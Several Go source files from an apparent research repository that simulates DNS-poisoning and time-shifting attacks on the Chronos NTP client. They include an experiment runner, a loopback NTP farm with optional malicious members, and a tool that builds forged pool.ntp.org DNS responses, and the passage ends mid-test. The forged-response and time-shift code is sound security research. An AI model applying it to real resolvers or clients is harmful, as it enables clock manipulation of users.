		return o, fmt.Errorf("-json applies to -experiment runs (the typed eval.Result pipeline)")
	}
	return o, nil
}

// openCheckpoint creates or resumes the run's checkpoint file, validating
// a resumed file against the configuration fingerprint.
func openCheckpoint(o options, fingerprint, description string, total int) (*runner.Checkpoint, error) {
	if o.checkpoint != "" {
		return runner.CreateCheckpoint(o.checkpoint, fingerprint, total, description)
	}
	return runner.ResumeCheckpoint(o.resume, fingerprint, total)
}

// startProfiles begins CPU profiling and arms the heap-profile write as
// requested; the returned stop must run after the measured work (and
// before process exit).
func startProfiles(o options) (stop func() error, err error) {
	var cpuFile *os.File
	if o.cpuprofile != "" {
		cpuFile, err = os.Create(o.cpuprofile)
		if err != nil {
			return nil, err
		}
		if err := pprof.StartCPUProfile(cpuFile); err != nil {
			cpuFile.Close()
			return nil, err
		}
	}
	return func() error {
		if cpuFile != nil {
			pprof.StopCPUProfile()
			if err := cpuFile.Close(); err != nil {
				return err
			}
		}
		if o.memprofile != "" {
			f, err := os.Create(o.memprofile)
			if err != nil {
				return err
			}
			defer f.Close()
			runtime.GC() // report live steady-state heap, not transient garbage
			if err := pprof.WriteHeapProfile(f); err != nil {
				return err
			}
		}
		return nil
	}, nil
}

// labeled runs f with a pprof goroutine label so profile samples can be
// attributed per experiment (-tagfocus experiment=E5 etc.). Work fanned
// across internal/runner inherits the label through the spawning
// goroutine's context only when the runner propagates it; the top-level
// label still marks every sample of single-threaded runs and the reduce
// paths.
func labeled(key, value string, f func() error) error {
	var err error
	pprof.Do(context.Background(), pprof.Labels(key, value), func(context.Context) {
		err = f()
	})
	return err
}

func run(w io.Writer, args []string) error {
	o, err := parseFlags(args)
	if err != nil {
		if errors.Is(err, flag.ErrHelp) {
			return nil
		}
		return err
	}
	stopProfiles, err := startProfiles(o)
	if err != nil {
		return err
	}
	if err := runMode(w, o); err != nil {
		stopProfiles()
		return err
	}
	return stopProfiles()
}

// runMode dispatches to the selected mode with the profiling label set.
func runMode(w io.Writer, o options) error {
	if o.fleet {
		return labeled("mode", "fleet", func() error { return runFleet(w, o) })
	}
	if o.sweep != "" {
		return labeled("mode", "sweep", func() error { return runSweep(w, o) })
	}

	runners := map[string]func() (*eval.Result, error){
		"E1": func() (*eval.Result, error) { return eval.Figure1(o.seed, o.trials, o.parallel) },
		"E2": func() (*eval.Result, error) { return eval.AttackWindow(o.seed, o.trials, o.parallel) },
		"E3": eval.MaxAddresses,
		"E4": eval.ChronosSecurity,
		"E5": func() (*eval.Result, error) { return eval.FragmentationStudy(o.seed, o.trials, o.parallel) },
		"E6": func() (*eval.Result, error) { return eval.TimeShift(o.seed, o.trials, o.parallel) },
		"E7": func() (*eval.Result, error) { return eval.Mitigations(o.seed, o.trials, o.parallel) },
		"E8": func() (*eval.Result, error) { return eval.Ablations(o.seed, o.trials, o.parallel) },
		"E9": func() (*eval.Result, error) {
			return eval.FleetStudy(o.seed, o.trials, o.parallel, o.clients, o.resolvers)
		},
		"E10": func() (*eval.Result, error) { return runE10(o) },
		"E11": func() (*eval.Result, error) {
			return eval.AuthStudy(o.seed, o.trials, o.parallel, 0, 0, o.auth, o.quorum)
		},
	}
	emit := func(res *eval.Result) error {
		if o.jsonOut {
			b, err := json.MarshalIndent(res, "", "  ")
			if err != nil {
				return err
			}
			fmt.Fprintln(w, string(b))
			return nil
		}
		fmt.Fprintln(w, res.Render())
		return nil
	}
	if o.experiment == "all" {
		var results []*eval.Result
		err := labeled("experiment", "all", func() error {
			var err error
			results, err = eval.All(o.seed, o.trials, o.parallel, o.clients, o.resolvers)
			return err
		})
		if err != nil {
			return err
		}
		for _, res := range results {
			if err := emit(res); err != nil {
				return err
			}
		}
		return nil
	}
	r, ok := runners[o.experiment]
	if !ok {
		return fmt.Errorf("unknown experiment %q (want E1..E11 or all)", o.experiment)
	}
	var res *eval.Result
	if err := labeled("experiment", o.experiment, func() error {
		var err error
		res, err = r()
		return err
	}); err != nil {
		return err
	}
	return emit(res)
}

// runE10 runs the long-horizon shift study, with checkpoint/resume when
// requested.
func runE10(o options) (*eval.Result, error) {
	if o.checkpoint == "" && o.resume == "" {
		return eval.ShiftStudy(o.seed, o.trials, o.parallel, o.shift, o.horizon, o.strategy)
	}
	total, err := eval.ShiftStudyTasks(o.trials, o.shift, o.horizon, o.strategy)
	if err != nil {
		return nil, err
	}
	fingerprint := eval.ShiftStudyFingerprint(o.seed, o.trials, o.shift, o.horizon, o.strategy)
	ckpt, err := openCheckpoint(o, fingerprint,
		fmt.Sprintf("E10 seed=%d trials=%d strategy=%s", o.seed, o.trials, o.strategy), total)
	if err != nil {
		return nil, err
	}
	defer ckpt.Close()
	return eval.ShiftStudyCheckpointed(o.seed, o.trials, o.parallel, o.shift, o.horizon, o.strategy, ckpt)
}

// sweepAxes maps every valid -sweep dimension to its grid expansion.
var sweepAxes = map[string]func(*runner.Grid){
	"mechanism": func(g *runner.Grid) {
		g.Mechanisms = []core.Mechanism{
			core.NoAttack, core.Defrag, core.BGPHijack, core.BGPHijackPersistent,
		}
	},
	"poisonquery": func(g *runner.Grid) {
		for q := 1; q <= 24; q++ {
			g.PoisonQueries = append(g.PoisonQueries, q)
		}
	},
	"mitigation": func(g *runner.Grid) {
		g.Toggles = eval.MitigationToggles()
	},
}

// sweepAxisNames lists the valid -sweep dimensions, sorted.
func sweepAxisNames() []string {
	names := make([]string, 0, len(sweepAxes))
	for name := range sweepAxes {
		names = append(names, name)
	}
	sort.Strings(names)
	return names
}

// parseSweep validates every requested dimension up front — before any
// trial runs — so a misspelled axis fails with the list of valid ones
// instead of silently sweeping nothing. The returned dims string is the
// normalized axis list (fingerprint input).
func parseSweep(dims string, seed int64, trials int) (runner.Grid, string, error) {
	grid := runner.Grid{
		Base:  core.Config{Mechanism: core.Defrag, PoisonQuery: 12},
		Seeds: runner.Seeds(seed, trials),
	}
	var requested []string
	for _, dim := range strings.Split(dims, ",") {
		dim = strings.TrimSpace(dim)
		if dim == "" {
			continue
		}
		expand, ok := sweepAxes[dim]
		if !ok {
			return grid, "", fmt.Errorf("unknown sweep dimension %q (valid axes: %s)",
				dim, strings.Join(sweepAxisNames(), ", "))
		}
		expand(&grid)
		requested = append(requested, dim)
	}
	if len(requested) == 0 {
		return grid, "", fmt.Errorf("-sweep lists no dimensions (valid axes: %s)",
			strings.Join(sweepAxisNames(), ", "))
	}
	return grid, strings.Join(requested, ","), nil
}

// runSweep expands the requested dimensions into a runner.Grid, fans it
// across the worker pool, and prints one aggregate row per grid point.
func runSweep(w io.Writer, o options) error {
	grid, normalized, err := parseSweep(o.sweep, o.seed, o.trials)
	if err != nil {
		return err
	}
	gridTrials := grid.Trials()
	opts := runner.Options{Parallel: o.parallel}
	if o.checkpoint != "" || o.resume != "" {
		fingerprint := runner.Fingerprint(struct {
			Mode   string `json:"mode"`
			Dims   string `json:"dims"`
			Seed   int64  `json:"seed"`
			Trials int    `json:"trials"`
		}{"sweep", normalized, o.seed, o.trials})
		ckpt, err := openCheckpoint(o, fingerprint,
			fmt.Sprintf("sweep %s seed=%d trials=%d", normalized, o.seed, o.trials), len(gridTrials))
		if err != nil {
			return err
		}
		defer ckpt.Close()
		opts.Checkpoint = ckpt
	}
	results, err := runner.Run(context.Background(), gridTrials, opts)
	if err != nil {
		return err
	}

	t := &eval.Table{
		ID:    "SWEEP",
		Title: fmt.Sprintf("grid sweep over %s — %d points × %d trials", o.sweep, len(runner.Points(gridTrials)), o.trials),
		Columns: []string{
			"point", "trials", "attacker-fraction", "pool-benign", "pool-malicious", "planted",
		},
	}
	groups := runner.ByPoint(gridTrials, results)
	for _, point := range runner.Points(gridTrials) {
		rs := groups[point]
		var fraction, benign, malicious []float64
		planted := 0
		for _, r := range rs {
			fraction = append(fraction, r.AttackerFraction)
			benign = append(benign, float64(r.PoolBenign))
			malicious = append(malicious, float64(r.PoolMalicious))
			if r.PoisonPlanted {
				planted++
			}
		}
		t.AddRow(point, len(rs),
			summaryCell(fraction, eval.FormatFraction),
			summaryCell(benign, eval.FormatCount),
			summaryCell(malicious, eval.FormatCount),
			fmt.Sprintf("%d/%d", planted, len(rs)))
	}
	t.Notes = append(t.Notes,
		"± values are normal 95% CIs of the mean across the seed replicas of each grid point",
		"aggregates are bit-identical at any -parallel value (order-independent reduction keyed by trial index)",
	)
	fmt.Fprintln(w, t.Render())
	return nil
}

// runFleet executes one population-scale simulation and prints the
// per-shard and population tables.
func runFleet(w io.Writer, o options) error {
	cfg := fleet.Config{
		Seed:      o.seed,
		Clients:   o.clients,
		Resolvers: o.resolvers,
		Poisoned:  o.poisoned,
	}
	res, err := fleet.Run(context.Background(), cfg, o.parallel)
	if err != nil {
		return err
	}
	shardTable := &eval.Table{
		ID: "FLEET",
		Title: fmt.Sprintf("fleet run — %d clients (%d chronos + %d classic) behind %d resolvers, %d poisoned via %s",
			res.TotalClients, res.ChronosClients, res.ClassicClients,
			res.Config.Resolvers, res.PoisonedResolvers, res.Config.Mechanism),
		Columns: []string{
			"shard", "clients", "poisoned", "planted",
			"chronos-subverted", "chronos-shifted", "classic-subverted", "cache-hits",
		},
	}
	for _, s := range res.Shards {
		shardTable.AddRow(s.Shard, s.Clients, s.Poisoned, s.Planted,
			fmt.Sprintf("%d/%d", s.ChronosSubverted, s.Chronos),
			fmt.Sprintf("%d/%d", s.ChronosShifted, s.Chronos),
			fmt.Sprintf("%d/%d", s.ClassicSubverted, s.Classic),
			s.ResolverStats.CacheHits)
	}
	shardTable.Notes = append(shardTable.Notes,
		fmt.Sprintf("population: subverted %.3f, shifted>100ms %.3f, amplification %.1f clients per poisoned resolver",
			res.SubvertedFraction, res.ShiftedFraction, res.Amplification),
		fmt.Sprintf("mean attacker pool fraction across chronos clients: %.3f", res.MeanAttackerFraction),
		"shards are independent seeded simulations; the reduction is bit-identical at any -parallel value",
	)
	fmt.Fprintln(w, shardTable.Render())
	return nil
}

// summaryCell reduces a metric series and renders it with the shared eval
// formatter, so sweep cells match the experiment tables byte for byte.
func summaryCell(xs []float64, format func(stats.Summary) string) string {
	s, err := stats.Describe(xs)
	if err != nil {
		return "-"
	}
	return format(s)
}
