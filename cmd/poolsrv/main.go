// Command poolsrv models the server side of the pool. By default it
// traces the pool.ntp.org rotation behaviour that Chronos' pool
// generation relies on: which 4 addresses the zone serves per rotation
// window, and how many distinct servers accumulate over the 24-hour
// generation horizon.
//
// With -listen, poolsrv instead boots a farm of real UDP NTP servers on
// the given address (loopback by default) — honest members with
// randomised clock errors plus optionally malicious members applying a
// constant shift — and serves traffic until the duration elapses. Point
// chronosd -upstream at the printed endpoints.
//
// Usage:
//
//	poolsrv [-seed N] [-inventory 500] [-hours 24]
//	poolsrv -listen 127.0.0.1:0 [-servers 4] [-malicious 0] [-shift 250ms] [-err 10ms] -duration 10s
package main

import (
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"os/signal"
	"time"

	"chronosntp/internal/dnsserver"
	"chronosntp/internal/ntpserver"
	"chronosntp/internal/simnet"
	"chronosntp/internal/wirenet/interoptest"
)

type options struct {
	seed      int64
	inventory int
	hours     int

	listen    string
	servers   int
	malicious int
	shift     time.Duration
	honestErr time.Duration
	duration  time.Duration
}

func newFlagSet(o *options) *flag.FlagSet {
	fs := flag.NewFlagSet("poolsrv", flag.ContinueOnError)
	fs.Int64Var(&o.seed, "seed", 1, "deterministic seed (rotation trace and farm clock errors)")
	fs.IntVar(&o.inventory, "inventory", 500, "NTP servers behind the simulated pool")
	fs.IntVar(&o.hours, "hours", 24, "hourly queries to trace")
	fs.StringVar(&o.listen, "listen", "", "serve real NTP: listen address for a loopback farm, e.g. 127.0.0.1:0")
	fs.IntVar(&o.servers, "servers", 4, "farm size when serving (-listen)")
	fs.IntVar(&o.malicious, "malicious", 0, "how many farm members lie by -shift")
	fs.DurationVar(&o.shift, "shift", 250*time.Millisecond, "constant shift the malicious members apply")
	fs.DurationVar(&o.honestErr, "err", 10*time.Millisecond, "honest members' clock error bound (uniform ±err)")
	fs.DurationVar(&o.duration, "duration", 0, "how long to serve before exiting (0 = until interrupted)")
	fs.Usage = func() {
		w := fs.Output()
		fmt.Fprintln(w, "poolsrv — pool rotation trace, or a real loopback NTP server farm")
		fmt.Fprintln(w)
		fmt.Fprintln(w, "Usage:")
		fmt.Fprintln(w, "  poolsrv [-seed N] [-inventory 500] [-hours 24]")
		fmt.Fprintln(w, "  poolsrv -listen 127.0.0.1:0 [-servers 4] [-malicious 0] [-shift 250ms] [-err 10ms] -duration 10s")
		fmt.Fprintln(w)
		fmt.Fprintln(w, "Flags:")
		fs.PrintDefaults()
	}
	return fs
}

func main() {
	if err := run(os.Stdout, os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "poolsrv:", err)
		os.Exit(1)
	}
}

func run(w io.Writer, args []string) error {
	var o options
	fs := newFlagSet(&o)
	if err := fs.Parse(args); err != nil {
		if errors.Is(err, flag.ErrHelp) {
			return nil
		}
		return err
	}
	if o.listen != "" {
		if o.servers < 1 {
			return fmt.Errorf("-servers must be at least 1, got %d", o.servers)
		}
		if o.malicious < 0 || o.malicious > o.servers {
			return fmt.Errorf("-malicious must be between 0 and -servers (%d), got %d", o.servers, o.malicious)
		}
		if o.duration < 0 {
			return fmt.Errorf("-duration must not be negative, got %v", o.duration)
		}
		return runServe(w, &o)
	}
	return runTrace(w, &o)
}

// runServe boots a farm of real UDP servers and serves until the
// duration elapses (or an interrupt arrives).
func runServe(w io.Writer, o *options) error {
	farm, err := interoptest.StartFarm(interoptest.FarmConfig{
		Addr:      o.listen,
		Honest:    o.servers - o.malicious,
		HonestErr: o.honestErr,
		Malicious: o.malicious,
		Strategy:  ntpserver.ConstantShift(o.shift),
		Seed:      o.seed,
	})
	if err != nil {
		return err
	}
	defer farm.Close()

	honest := o.servers - o.malicious
	for i, ap := range farm.Pool {
		if i < honest {
			fmt.Fprintf(w, "serving ntp on %s (honest, offset %v)\n", ap, farm.Offsets[i])
		} else {
			fmt.Fprintf(w, "serving ntp on %s (malicious, shift %v)\n", ap, o.shift)
		}
	}

	if o.duration > 0 {
		fmt.Fprintf(w, "poolsrv: %d servers up, serving for %v\n", o.servers, o.duration)
		time.Sleep(o.duration)
	} else {
		fmt.Fprintf(w, "poolsrv: %d servers up, serving until interrupted\n", o.servers)
		sig := make(chan os.Signal, 1)
		signal.Notify(sig, os.Interrupt)
		<-sig
		signal.Stop(sig)
	}
	fmt.Fprintf(w, "served %d requests\n", farm.TotalServed())
	return nil
}

// runTrace is the original simulated rotation trace.
func runTrace(w io.Writer, o *options) error {
	n := simnet.New(simnet.Config{Seed: o.seed})
	ips := make([]simnet.IP, o.inventory)
	for i := range ips {
		ips[i] = simnet.IPv4(203, byte(i/250), byte(i%250), 1)
	}
	pool, err := dnsserver.NewPoolZone(dnsserver.PoolConfig{Name: "pool.ntp.org"}, n.Now(), ips)
	if err != nil {
		return err
	}
	seen := make(map[simnet.IP]bool)
	for h := 0; h < o.hours; h++ {
		subset := pool.Select(n.Now(), n.Rand())
		fresh := 0
		for _, ip := range subset {
			if !seen[ip] {
				seen[ip] = true
				fresh++
			}
		}
		fmt.Fprintf(w, "hour %2d: %v (+%d new, %d total)\n", h, subset, fresh, len(seen))
		n.RunFor(time.Hour)
	}
	fmt.Fprintf(w, "accumulated %d distinct servers over %d hourly queries (ideal %d)\n",
		len(seen), o.hours, 4*o.hours)
	return nil
}
