// Command poolsrv traces the pool.ntp.org rotation behaviour that
// Chronos' pool generation relies on: which 4 addresses the zone serves
// per rotation window, and how many distinct servers accumulate over the
// 24-hour generation horizon.
//
// Usage:
//
//	poolsrv [-seed N] [-inventory 500] [-hours 24]
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"chronosntp/internal/dnsserver"
	"chronosntp/internal/simnet"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "poolsrv:", err)
		os.Exit(1)
	}
}

func run() error {
	seed := flag.Int64("seed", 1, "deterministic simulation seed")
	inventory := flag.Int("inventory", 500, "NTP servers behind the pool")
	hours := flag.Int("hours", 24, "hourly queries to trace")
	flag.Parse()

	n := simnet.New(simnet.Config{Seed: *seed})
	ips := make([]simnet.IP, *inventory)
	for i := range ips {
		ips[i] = simnet.IPv4(203, byte(i/250), byte(i%250), 1)
	}
	pool, err := dnsserver.NewPoolZone(dnsserver.PoolConfig{Name: "pool.ntp.org"}, n.Now(), ips)
	if err != nil {
		return err
	}
	seen := make(map[simnet.IP]bool)
	for h := 0; h < *hours; h++ {
		subset := pool.Select(n.Now(), n.Rand())
		fresh := 0
		for _, ip := range subset {
			if !seen[ip] {
				seen[ip] = true
				fresh++
			}
		}
		fmt.Printf("hour %2d: %v (+%d new, %d total)\n", h, subset, fresh, len(seen))
		n.RunFor(time.Hour)
	}
	fmt.Printf("accumulated %d distinct servers over %d hourly queries (ideal %d)\n",
		len(seen), *hours, 4**hours)
	return nil
}
