package main

import (
	"bytes"
	"flag"
	"net/netip"
	"strings"
	"testing"
	"time"

	"chronosntp/internal/wirenet"
)

func TestUsageCoversAllFlags(t *testing.T) {
	var o options
	fs := newFlagSet(&o)
	var buf bytes.Buffer
	fs.SetOutput(&buf)
	fs.Usage()
	help := buf.String()
	fs.VisitAll(func(f *flag.Flag) {
		if !strings.Contains(help, "-"+f.Name) {
			t.Errorf("usage text omits registered flag -%s", f.Name)
		}
	})
	for _, want := range []string{"-listen", "-servers", "-malicious", "-shift", "-duration"} {
		if !strings.Contains(help, want) {
			t.Errorf("usage text missing %s", want)
		}
	}
}

func TestRunRejectsBadFlags(t *testing.T) {
	if err := run(&strings.Builder{}, []string{"-h"}); err != nil {
		t.Fatalf("-h should exit cleanly, got %v", err)
	}
	if err := run(&strings.Builder{}, []string{"-no-such-flag"}); err == nil {
		t.Fatal("unknown flag was accepted")
	}
	for _, args := range [][]string{
		{"-listen", "127.0.0.1:0", "-servers", "0"},
		{"-listen", "127.0.0.1:0", "-servers", "2", "-malicious", "3"},
		{"-listen", "127.0.0.1:0", "-malicious", "-1"},
		{"-listen", "127.0.0.1:0", "-duration", "-1s"},
		{"-listen", "not an address", "-duration", "50ms"},
	} {
		if err := run(&strings.Builder{}, args); err == nil {
			t.Fatalf("bad flags %v were silently accepted", args)
		}
	}
}

// TestTraceSmoke runs the original rotation trace.
func TestTraceSmoke(t *testing.T) {
	var out strings.Builder
	if err := run(&out, []string{"-seed", "2", "-inventory", "40", "-hours", "3"}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"hour  0:", "hour  2:", "accumulated"} {
		if !strings.Contains(out.String(), want) {
			t.Fatalf("trace output missing %q:\n%s", want, out.String())
		}
	}
}

// TestServeSmoke boots a short-lived mixed farm over real loopback
// sockets through the CLI path and checks the endpoint banner lines.
func TestServeSmoke(t *testing.T) {
	var out strings.Builder
	err := run(&out, []string{
		"-listen", "127.0.0.1:0", "-servers", "3", "-malicious", "1",
		"-shift", "200ms", "-duration", "100ms", "-seed", "4",
	})
	if err != nil {
		t.Fatal(err)
	}
	got := out.String()
	if n := strings.Count(got, "serving ntp on 127.0.0.1:"); n != 3 {
		t.Fatalf("got %d endpoint banners, want 3:\n%s", n, got)
	}
	if strings.Count(got, "(honest, offset ") != 2 || strings.Count(got, "(malicious, shift 200ms)") != 1 {
		t.Fatalf("farm composition not reflected in banners:\n%s", got)
	}
	if !strings.Contains(got, "served ") {
		t.Fatalf("missing served-requests summary:\n%s", got)
	}
}

// TestServeAnswersRealQueries starts the farm through the CLI in the
// background and exercises it with a real wirenet exchange while it is
// serving — the loopback smoke run the issue asks for.
func TestServeAnswersRealQueries(t *testing.T) {
	// The CLI prints banners before sleeping, so feed it a pipe-like
	// writer that hands the endpoint to the querying side.
	addrCh := make(chan string, 4)
	w := &lineScanner{lines: addrCh}
	done := make(chan error, 1)
	go func() {
		done <- run(w, []string{
			"-listen", "127.0.0.1:0", "-servers", "1", "-duration", "2s", "-err", "0s", "-seed", "9",
		})
	}()

	var endpoint string
	select {
	case line := <-addrCh:
		fields := strings.Fields(line) // "serving ntp on <addr> (honest, ...)"
		endpoint = fields[3]
	case err := <-done:
		t.Fatalf("serve exited before printing a banner: %v", err)
	}

	tr := &wirenet.UDPTransport{}
	ap, err := netip.ParseAddrPort(endpoint)
	if err != nil {
		t.Fatalf("banner endpoint %q unparsable: %v", endpoint, err)
	}
	sample, err := tr.Exchange(ap, time.Second)
	if err != nil {
		t.Fatalf("live farm did not answer: %v", err)
	}
	if off := sample.Offset; off < -time.Millisecond || off > time.Millisecond {
		t.Fatalf("perfect-clock server measured at offset %v", off)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
}

// lineScanner forwards "serving ntp on" banner lines to a channel as
// they are written.
type lineScanner struct {
	buf   strings.Builder
	lines chan string
}

func (l *lineScanner) Write(p []byte) (int, error) {
	l.buf.Write(p)
	for {
		s := l.buf.String()
		i := strings.IndexByte(s, '\n')
		if i < 0 {
			return len(p), nil
		}
		line := s[:i]
		l.buf.Reset()
		l.buf.WriteString(s[i+1:])
		if strings.HasPrefix(line, "serving ntp on ") {
			select {
			case l.lines <- line:
			default:
			}
		}
	}
}
