// Command dnstool inspects the DNS wire-format facts the attack rests on:
// the forged-response record capacity per payload size and the byte
// layout of a forged pool response.
//
// Usage:
//
//	dnstool [-qname pool.ntp.org] [-payload 1472]
package main

import (
	"flag"
	"fmt"
	"os"

	"chronosntp/internal/analysis"
	"chronosntp/internal/attack"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "dnstool:", err)
		os.Exit(1)
	}
}

func run() error {
	qname := flag.String("qname", "pool.ntp.org", "query name")
	payload := flag.Int("payload", dnswire.EthernetMaxPayload, "UDP payload budget for the forged response")
	flag.Parse()

	rows, err := analysis.RecordCapacityTable(*qname)
	if err != nil {
		return err
	}
	fmt.Printf("max A records answering %q per single response:\n", *qname)
	for _, r := range rows {
		fmt.Printf("  payload %4d bytes, edns0=%-5v -> %3d records\n", r.Payload, r.EDNS, r.Records)
	}

	max, err := dnswire.MaxARecords(*qname, *payload, true)
	if err != nil {
		return err
	}
	servers := make([]simnet.IP, max)
	for i := range servers {
		servers[i] = simnet.IPv4(66, 0, byte(i/250), byte(i%250+1))
	}
	forge := &attack.ResponseForge{PoolName: *qname, Servers: servers}
	q := dnswire.NewQuery(0xBEEF, *qname, dnswire.TypeA)
	q.SetEDNS(uint16(*payload))
	resp, err := forge.Response(q)
	if err != nil {
		return err
	}
	b, err := resp.Encode()
	if err != nil {
		return err
	}
	fmt.Printf("\nforged response for %d-byte payload: %d records, %d bytes on the wire, ttl %d s\n",
		*payload, len(resp.Answers), len(b), resp.Answers[0].TTL)
	fmt.Printf("fits unfragmented on Ethernet: %v\n", len(b) <= dnswire.EthernetMaxPayload)
	return nil
}
