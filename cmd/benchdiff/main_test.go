package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// sampleBench mimics real `go test -bench` output, including headers, a
// GOMAXPROCS suffix, custom rate metrics, and the PASS trailer.
const sampleBench = `goos: linux
goarch: amd64
pkg: chronosntp
cpu: shared runner
BenchmarkFleetScale/clients=1000-8         	      12	  95000000 ns/op	    105263 clients/sec	         0.42 subverted-fraction
BenchmarkFleetScale/clients=10000-8        	       3	 310000000 ns/op	     96774 clients/sec	         0.42 subverted-fraction
BenchmarkShiftEngine/honest-majority-8     	       5	 220000000 ns/op	    227000 rounds/sec	    100000 target-rounds/sec
PASS
ok  	chronosntp	4.192s
`

func TestParseBench(t *testing.T) {
	points, err := parseBench(strings.NewReader(sampleBench))
	if err != nil {
		t.Fatal(err)
	}
	if len(points) != 3 {
		t.Fatalf("parsed %d points, want 3", len(points))
	}
	p := points[0]
	if p.Name != "BenchmarkFleetScale/clients=1000" {
		t.Errorf("GOMAXPROCS suffix not stripped: %q", p.Name)
	}
	if p.Iterations != 12 {
		t.Errorf("iterations = %d, want 12", p.Iterations)
	}
	if p.Metrics["clients/sec"] != 105263 {
		t.Errorf("clients/sec = %g", p.Metrics["clients/sec"])
	}
	if p.Metrics["ns/op"] != 95000000 {
		t.Errorf("ns/op = %g", p.Metrics["ns/op"])
	}
	if _, err := parseBench(strings.NewReader("PASS\nok x 1s\n")); err == nil {
		t.Error("empty bench output accepted")
	}
}

func TestGatedUnits(t *testing.T) {
	for unit, want := range map[string]bool{
		"clients/sec":        true,
		"rounds/sec":         true,
		"trials/sec":         true,
		"ns/op":              false,
		"B/op":               false,
		"subverted-fraction": false,
		"target-rounds/sec":  false, // documented constant, not a measurement
		"trials/grid":        false,
		"allocs/op":          false, // gated, but in the lower-is-better direction
	} {
		if gated(unit) != want {
			t.Errorf("gated(%q) = %v, want %v", unit, !want, want)
		}
	}
	for unit, want := range map[string]bool{
		"allocs/op":   true,
		"B/op":        false,
		"ns/op":       false,
		"clients/sec": false,
	} {
		if gatedLower(unit) != want {
			t.Errorf("gatedLower(%q) = %v, want %v", unit, !want, want)
		}
	}
}

// writeAllocFile stores a File whose only interesting metric is the
// wire server's allocation count.
func writeAllocFile(t *testing.T, path, rev string, metrics map[string]float64) {
	t.Helper()
	f := File{
		Schema: BenchSchema, Rev: rev, UnixTime: 1700000000,
		Points: []Point{{Name: "BenchmarkWireServe", Iterations: 100000, Metrics: metrics}},
	}
	blob, err := json.MarshalIndent(f, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, blob, 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestAllocGate covers the lower-is-better direction: a zero-alloc
// baseline hard-fails on the first allocation, the +1 floor ignores
// sub-allocation float noise, and dropping -benchmem from the run is a
// MISSING failure rather than a silent pass.
func TestAllocGate(t *testing.T) {
	dir := t.TempDir()
	zeroBase := filepath.Join(dir, "BENCH_zero.json")
	writeAllocFile(t, zeroBase, "zero", map[string]float64{
		"ns/op": 20000, "allocs/op": 0, "requests/sec": 80000,
	})

	// 0 -> 1 alloc: must fail even though the relative threshold is 20%.
	leak := filepath.Join(dir, "leak.json")
	writeAllocFile(t, leak, "leak", map[string]float64{
		"ns/op": 20000, "allocs/op": 1, "requests/sec": 80000,
	})
	var out strings.Builder
	if err := run(&out, []string{"-baseline", zeroBase, "-current", leak}); err == nil {
		t.Fatalf("allocation creeping into a zero-alloc path passed the gate:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "REGRESSED") || !strings.Contains(out.String(), "allocs/op") {
		t.Errorf("alloc regression report unhelpful:\n%s", out.String())
	}

	// 0 -> 0: passes.
	out.Reset()
	if err := run(&out, []string{"-baseline", zeroBase, "-current", zeroBase}); err != nil {
		t.Fatalf("zero-alloc self-comparison failed: %v\n%s", err, out.String())
	}

	// Nonzero baseline: within-threshold growth passes, beyond fails.
	bigBase := filepath.Join(dir, "BENCH_big.json")
	writeAllocFile(t, bigBase, "big", map[string]float64{"allocs/op": 100, "requests/sec": 80000})
	wobble := filepath.Join(dir, "wobble.json")
	writeAllocFile(t, wobble, "wobble", map[string]float64{"allocs/op": 115, "requests/sec": 80000})
	out.Reset()
	if err := run(&out, []string{"-baseline", bigBase, "-current", wobble}); err != nil {
		t.Fatalf("15%% alloc wobble failed the 20%% gate: %v\n%s", err, out.String())
	}
	grown := filepath.Join(dir, "grown.json")
	writeAllocFile(t, grown, "grown", map[string]float64{"allocs/op": 130, "requests/sec": 80000})
	out.Reset()
	if err := run(&out, []string{"-baseline", bigBase, "-current", grown}); err == nil {
		t.Fatalf("30%% alloc growth passed the gate:\n%s", out.String())
	}

	// The +1 floor: a tiny baseline growing under one whole allocation
	// stays green no matter the percentage.
	tinyBase := filepath.Join(dir, "BENCH_tiny.json")
	writeAllocFile(t, tinyBase, "tiny", map[string]float64{"allocs/op": 2, "requests/sec": 80000})
	tinyCur := filepath.Join(dir, "tiny_cur.json")
	writeAllocFile(t, tinyCur, "tinycur", map[string]float64{"allocs/op": 2.9, "requests/sec": 80000})
	out.Reset()
	if err := run(&out, []string{"-baseline", tinyBase, "-current", tinyCur}); err != nil {
		t.Fatalf("sub-allocation noise tripped the gate: %v\n%s", err, out.String())
	}

	// Losing -benchmem (allocs/op vanishes from the current run) fails.
	bare := filepath.Join(dir, "bare.json")
	writeAllocFile(t, bare, "bare", map[string]float64{"ns/op": 20000, "requests/sec": 80000})
	out.Reset()
	if err := run(&out, []string{"-baseline", zeroBase, "-current", bare}); err == nil {
		t.Fatalf("dropping allocs/op from the run passed the gate:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "MISSING") {
		t.Errorf("missing allocs/op not reported:\n%s", out.String())
	}
}

// writeBenchFile stores a File with the given throughput numbers.
func writeBenchFile(t *testing.T, path, rev string, clientsPerSec, roundsPerSec float64) {
	t.Helper()
	f := File{
		Schema: BenchSchema, Rev: rev, UnixTime: 1700000000,
		Points: []Point{
			{Name: "BenchmarkFleetScale/clients=1000", Iterations: 10, Metrics: map[string]float64{
				"ns/op": 1e8, "clients/sec": clientsPerSec, "subverted-fraction": 0.42,
			}},
			{Name: "BenchmarkShiftEngine/honest-majority", Iterations: 5, Metrics: map[string]float64{
				"ns/op": 2e8, "rounds/sec": roundsPerSec, "target-rounds/sec": 100000,
			}},
		},
	}
	blob, err := json.MarshalIndent(f, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, blob, 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestCompareFailsOnSyntheticRegression is the acceptance criterion: a
// synthetic 20%+ throughput drop makes benchdiff exit non-zero, while a
// small wobble passes.
func TestCompareFailsOnSyntheticRegression(t *testing.T) {
	dir := t.TempDir()
	base := filepath.Join(dir, "BENCH_base.json")
	writeBenchFile(t, base, "base", 100000, 200000)

	// 25% drop in clients/sec: must fail.
